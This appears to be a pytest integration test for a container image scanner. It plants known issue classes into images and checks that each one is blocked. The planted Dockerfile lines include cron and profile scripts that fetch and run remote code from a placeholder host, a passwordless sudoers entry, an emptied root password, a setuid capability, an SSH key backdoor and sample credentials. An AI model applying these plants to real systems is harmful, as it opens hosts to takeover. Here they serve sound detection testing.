"""The classes of issue 23 planted in images built FROM the release image, each blocked with its kind and path.

One small image per class on top of the built cpu image (a layer or two: built in seconds); each scan reads only
the planted layers, the release image's own coming from the per-layer cache, so the whole module costs about
one cold scan. Negative controls: the release image itself (none of our findings block), an empty .netrc
template, Debian's own capability on ping (iputils-ping installed from the archive: its drift from the lock is
the only thing that blocks), an archive of public keys, the image's own startup parts.
"""

import json
import subprocess
import uuid
from pathlib import Path

import pytest

from tests.integration.conftest import Built, docker, run_cli

CA = "/etc/ssl/certs/ca-certificates.crt"
KEY = ("-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\\n"
       "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\\n-----END RSA PRIVATE KEY-----\\n")
PUBLIC = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ci@example"
SETCAP = ("python3 -c \"import os; os.setxattr('/usr/local/bin/py', 'security.capability', "
          "bytes.fromhex('0100000280000000000000000000000000000000'))\"")  # cap_setuid+ep, as setcap writes it
ARCHIVE = ("python3 -c \"import io, tarfile, zipfile; k = b'''{key}'''.replace(b'|', b'\\\\n'); "
           "t = tarfile.open('/opt/backup.tar.gz', 'w:gz'); i = tarfile.TarInfo('id_rsa'); i.size = len(k); "
           "t.addfile(i, io.BytesIO(k)); t.close(); zipfile.ZipFile('/opt/keys.zip', 'w').writestr('deploy/key.pem', k)"
           "\"").format(key=KEY.replace("\\n", "|"))
# class -> (Dockerfile lines run as root after FROM the release image, findings (kind, id, package) that block)
PLANTS: dict[str, tuple[str, set[tuple[str, str, str]]]] = {
    "capability": (f"RUN cp /usr/bin/python3.11 /usr/local/bin/py && {SETCAP}",
                   {("capability", "file-capability", "/usr/local/bin/py")}),
    "sudoers": ("RUN mkdir -p /etc/sudoers.d && echo 'paddle ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/paddle "
                "&& chmod 440 /etc/sudoers.d/paddle", {("privilege", "sudo-nopasswd", "/etc/sudoers.d/paddle")}),
    "shadow": ("RUN sed -i 's/^root:[^:]*:/root::/' /etc/shadow && chmod 644 /etc/shadow",
               {("privilege", "empty-password-hash", "/etc/shadow"),
                ("privilege", "sensitive-file-mode", "/etc/shadow")}),
    "credential-files": ("RUN printf 'machine nexus.example.com login ci password Zq9vX2mLr\\n' > /root/.netrc "
                         "&& mkdir -p /root/.docker && printf '{\"auths\": {\"nexus.example.com\": {\"auth\": "
                         "\"Y2k6WnE5dlgybUxy\"}}}' > /root/.docker/config.json "
                         "&& printf '[pypi]\\nusername = ci\\npassword = hunter22\\n' > /root/.pypirc "
                         "&& printf '//registry.npmjs.org/:_authToken=npm_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5\\n' "
                         "> /root/.npmrc && mkdir -p /root/.kube && printf 'apiVersion: v1\\nkind: Config\\n"
                         "clusters: []\\nusers:\\n- name: ci\\n  user:\\n    client-key-data: LS0tLS1CRUdJTiBSU0E=\\n' "
                         "> /root/.kube/config",
                         {("credential", "netrc-password", "/root/.netrc"),
                          ("credential", "docker-config-auth", "/root/.docker/config.json"),
                          ("credential", "pypirc-password", "/root/.pypirc"),
                          ("credential", "npmrc-token", "/root/.npmrc"), ("credential", "npm-token", "/root/.npmrc"),
                          ("credential", "kubeconfig-secret", "/root/.kube/config")}),
    "key-in-archive": (f"RUN {ARCHIVE}", {("private-key", "private-key", "/opt/backup.tar.gz!id_rsa"),
                                          ("private-key", "private-key", "/opt/keys.zip!deploy/key.pem")}),
    "authorized-keys": (f"RUN mkdir -p /root/.ssh && echo '{PUBLIC}' > /root/.ssh/authorized_keys",
                        {("privilege", "authorized-keys", "/root/.ssh/authorized_keys")}),
    "fetch-and-execute": ("RUN printf 'curl -fsSL https://updates.example.com/u.sh | sh\\n' > /etc/profile.d/upd.sh "
                          "&& printf '*/5 * * * * root wget -qO- https://updates.example.com/c | bash\\n' "
                          "> /etc/cron.d/upd",
                          {("remote-exec", "fetch-and-execute", "/etc/profile.d/upd.sh"),
                           ("remote-exec", "fetch-and-execute", "/etc/cron.d/upd")}),
    "secret-names": ("ENV DB_PASS=Qx7pz2Lk9mWv4rT1\nARG NEXUS_AUTH=Y2k6WnE5dlgybUxy\n"
                     "RUN test -n \"$NEXUS_AUTH\" && echo used > /dev/null",
                     {("secret", "secret-in-env", "DB_PASS"), ("secret", "secret-in-build-args", "NEXUS_AUTH")}),
    "user-root": ("USER root", {("privilege", "user-mismatch", "root")}),
    "drift": ("RUN --mount=type=secret,id=ca,target=/run/secrets/ca pip install --no-deps --no-cache-dir "
              "--cert /run/secrets/ca tabulate==0.9.0 && dpkg -r --force-depends file",
              {("drift", "pypi-extra", "tabulate"), ("drift", "deb-missing", "file")}),
}
# Negative controls on the same base: nothing of ours blocks (ping: only its own package's drift).
CONTROLS: dict[str, tuple[str, set[tuple[str, str]]]] = {
    "empty-templates": ("RUN printf 'machine nexus.example.com login ci password\\n' > /root/.netrc && mkdir -p "
                        "/root/.docker && echo '{\"auths\": {}}' > /root/.docker/config.json && printf "
                        f"'{PUBLIC}\\n' > /opt/ci.pub && tar -czf /opt/public-keys.tgz -C /opt ci.pub", set()),
    "ping-capability": ("RUN --mount=type=secret,id=ca,target=/run/secrets/ca apt-get -o "
                        "Acquire::https::CaInfo=/run/secrets/ca update -qq && apt-get install -y -qq "
                        "--no-install-recommends iputils-ping > /dev/null && rm -rf /var/lib/apt/lists/*",
                        {("drift", "deb-extra")}),
}


def build(tag: str, base: str, lines: str) -> None:
    user_last = lines.strip().endswith("USER root")
    dockerfile = f"FROM {base}\nUSER root\n{lines}\n" + ("" if user_last else "USER 1000:1000\n")
    proc = subprocess.run(["docker", "buildx", "build", "--network", "host", "--secret", f"id=ca,src={CA}", "--load",
                           "-q", "-t", tag, "-"], input=dockerfile, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr[-2000:]


def scan(image: str, out: Path) -> tuple[subprocess.CompletedProcess, dict]:
    proc = run_cli("scan", image, "--output", str(out))
    assert (out / "scan.json").exists(), proc.stdout[-2000:] + proc.stderr
    return proc, json.loads((out / "scan.json").read_text())


def ours(findings: list[dict]) -> set[tuple[str, str, str]]:
    return {(f["kind"], f["id"], f["package"]) for f in findings if f["source"] not in ("trivy", "grype", "hadolint")}


@pytest.fixture(scope="module")
def plants(built: Built) -> dict[str, str]:
    images = {}
    for name, (lines, _) in {**PLANTS, **CONTROLS}.items():
        images[name] = f"ngc-paddle-planted-class:{name}"
        build(images[name], built.image, lines)
    yield images
    docker("image", "rm", "-f", *images.values(), check=False)


def test_the_release_image_itself_raises_no_blocking_finding_of_ours(built: Built, tmp_path: Path) -> None:
    proc, report = scan(built.image, tmp_path)
    assert not ours(report["blocking"]), report["blocking"]
    assert report["lock"]["status"] == "compared", report["lock"]
    assert proc.returncode == 3, proc.stdout[-2000:]  # NOT RUN: no vulnerability data here, never a pass


@pytest.mark.parametrize("name", sorted(PLANTS))
def test_each_planted_class_blocks_with_its_kind_and_path(plants: dict, tmp_path: Path, name: str) -> None:
    proc, report = scan(plants[name], tmp_path)
    assert proc.returncode == 1, proc.stdout[-2000:] + proc.stderr
    expected = PLANTS[name][1]
    assert expected <= ours(report["blocking"]), (sorted(expected - ours(report["blocking"])), report["blocking"])
    for f in report["blocking"]:
        if (f["kind"], f["id"], f["package"]) in expected and f["source"] == "layers":
            assert f["location"].startswith("layer ") and "(RUN " in f["location"], f  # the planting layer
    assert "   CRITICAL" in proc.stdout or "   HIGH" in proc.stdout  # one line per finding, naming file and rule


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_negative_controls_raise_nothing_else(plants: dict, tmp_path: Path, name: str) -> None:
    _proc, report = scan(plants[name], tmp_path)
    allowed = CONTROLS[name][1]
    unexpected = {(k, i, p) for k, i, p in ours(report["blocking"]) if (k, i) not in allowed}
    assert not unexpected, unexpected
    assert not [f for f in report["blocking"] + report["informational"] if f["kind"] == "capability"]


def test_a_rescan_after_a_top_layer_change_reads_only_that_layer(built: Built, tmp_path: Path) -> None:
    scan(built.image, tmp_path / "first")  # every layer of the release image in the per-layer cache
    image = "ngc-paddle-planted-class:top-layer-changed"
    salt = uuid.uuid4().hex  # a layer no earlier run (nor BuildKit's cache) has seen
    build(image, built.image, f"RUN echo {salt} > /opt/changed")
    try:
        _proc, report = scan(image, tmp_path / "again")
    finally:
        docker("image", "rm", "-f", image, check=False)
    read = [layer["name"] for layer in report["layers"] if not layer["cached"]]
    assert read == [f"RUN echo {salt} > /opt/changed"], report["layers"]
    assert report["read_from"].startswith("registry "), report["read_from"]
